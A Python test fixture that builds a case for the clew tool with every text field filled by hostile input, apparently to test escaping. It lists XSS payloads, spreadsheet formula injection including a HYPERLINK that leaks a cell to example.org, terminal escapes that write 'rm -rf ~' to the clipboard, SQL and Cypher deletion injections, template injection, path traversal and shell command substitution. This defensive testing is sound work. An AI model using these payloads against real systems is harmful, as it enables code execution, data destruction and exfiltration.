"""Texts that a browser, a spreadsheet, a terminal, a database or a template would obey, and a case full of them."""

from __future__ import annotations

import hashlib
from pathlib import Path

import clew
from graph.case import Case
from graph.records import Account, Chat, Moment, Post, ReadRow, Record, Rejection, Relation, Repost, Source

#: ``window.fired`` is set by whatever runs in a page.
IN_A_PAGE = (
    "<script>window.fired=1</script>",
    "</script><script>window.fired=2</script>",
    "<!--<script>",
    "]]><script>window.fired=3</script>",
    "<img src=x onerror=window.fired=4>",
    '"><img src="https://example.org/x.png" onerror="window.fired=5">',
    "' onmouseover='window.fired=6' autofocus onfocus='window.fired=6",
    "<svg onload=window.fired=7><animate onbegin=window.fired=7>",
    "<style>body{display:none}@import 'https://example.org/x.css';</style>",
    "</style></title></textarea><iframe src=javascript:window.fired=8></iframe>",
    "<base href=https://example.org/><meta http-equiv=refresh content='0;url=https://example.org'>",
    "javascript:window.fired=9//",
    "data:text/html,<script>window.fired=10</script>",
    "&lt;script&gt;window.fired=11&lt;/script&gt; &#60;b&#62;",
    "red;background:url(https://example.org/x)",
    "url(#x)}*{display:none",
    '\u2028window.fired=12;\u2029"};window.fired=12;//',
    "\\u003cscript\\u003ewindow.fired=13",
    "__proto__",
    "constructor",
    "toString",
)
IN_A_SHEET = (
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"press")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "\uff1d1+1",
    '"\r\n=1+1,"',
)
IN_A_TERMINAL = (
    "\x1b[2J\x1b[H\x1b[31mred",
    "\x1b]0;owned\x07",
    "\x1b]8;;https://example.org\x1b\\press\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x9b2J\x9d0;owned\x9c",
    "safe\x08\x08\x08\x08evil\r0 rejected",
    "\x07\x05\x0e\x7f\x00end",
    "[bold red]markup[/] [link=https://example.org]press[/link] [/nothing]",
    "one line\nclew: 0 rows rejected\r\nanother",
)
IN_AN_ENGINE = (
    "'}) DETACH DELETE n //",
    '"}) MATCH (n) DETACH DELETE n WITH 1 AS x //',
    "` }) \\u0027 $case",
    "'; DROP TABLE account; --",
    "\"; COPY account TO '/tmp/clew-hostile.csv'; --",
    "{{7*7}}{% raw %}{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %n %(x)s {0} {0.__class__}",
    "../../../../etc/passwd",
    "..\\..\\CON\\nul:/*?",
    "$(touch /tmp/clew-hostile) `id`; |",
)
AS_LETTERS = (
    "\u202egnp.exe\u202c \u2066x\u2069 \u200e\u200f\u061c",
    "رحلة \u200fآمنة +٩٦٤",
    "a\u200bd\u200cm\u2060i\ufeffn\u00ad",
    "e" + "\u0301" * 60,
    "x" * 3_000,
    "\U0001f469\u200d\U0001f4bb\U000e0041 \ufffd \uffff",
)
HOSTILE = (*IN_A_PAGE, *IN_A_SHEET, *IN_A_TERMINAL, *IN_AN_ENGINE, *AS_LETTERS)
#: One of each sort: a file that was loaded costs more than an account.
IN_A_FILE_NAME = (IN_A_PAGE[1], IN_A_SHEET[1], IN_A_TERMINAL[0], IN_A_TERMINAL[3], IN_AN_ENGINE[0], AS_LETTERS[0])
#: Accounts that hold one number: enough for a likely network.
_IN_A_NETWORK = 4
_MORNING = 1_700_000_000_000_000


def number(place: int) -> str:
    """Return the number that the account of ``HOSTILE[place]`` holds together with its neighbours."""
    return f"+44 7700 900{place // _IN_A_NETWORK:03d}"


def records_of(place: int) -> list[Record]:
    """Return a record of each kind with ``HOSTILE[place]`` in every field that is text."""
    text = HOSTILE[place]
    at = Moment(_MORNING + place * 1_000_000)
    account = Account(
        platform="x",
        native_id=text,
        handle=text,
        display_name=text,
        bio=f"{text} {number(place)}",
        country=text,
        status=text,
        phone=text,
        url=text,
        links=(text,),
        created_at=at,
    )
    chat = Chat(platform="x", native_id=text, kind="group", title=text, handle=text, invite=text)
    post = Post(
        platform="x",
        native_id=text,
        account_id=account.id,
        chat_id=chat.id,
        text=f"{text} {number(place)}",
        at=at,
        country=text,
        language=text,
        reply_to=f"x:{text}",
        url=text,
        media=text,
        contact_name=text,
        contact_phone=text,
        status=text,
        links=(text,),
        media_digests=(text,),
        sound_id=text,
    )
    repost = Repost(
        account_id=account.id,
        content_id=f"x:repost {text}",
        object_id=f"x:{HOSTILE[0]}",
        kind="retweet",
        at=at,
        object_account_id=f"x:{text}",
        object_name=text,
    )
    relation = Relation(
        subject_id=account.id, object_id=f"x:{HOSTILE[0]}", kind=text, asserted_by=text, name=text, phone=text, at=at
    )
    return [account, chat, post, repost, relation]


def build(path: Path) -> clew.Case:
    """Make a case in which every text is hostile: names of files, reasons, judgements and notes too."""
    case = Case(path)
    rows = [
        ReadRow(line, (record,))
        for place in range(len(HOSTILE))
        for line, record in enumerate(records_of(place), start=5 * place)
    ]
    rows += [ReadRow(line, (), Rejection(line=line, reason=text, row=text)) for line, text in enumerate(HOSTILE, 9_000)]
    for place, name in enumerate(IN_A_FILE_NAME):
        digest = hashlib.sha256(name.encode()).hexdigest()
        source = Source(name=name, sha256=digest, size=1, format="csv", platform="x")
        case.add(source, rows if place == 0 else rows[:5])
    for text in IN_A_FILE_NAME:
        case.judge_all([(f"x:{each}", "stance", "offer", each) for each in HOSTILE], by=text)
    opened = clew.open(path)
    opened.run(resolution=1.0)
    return opened
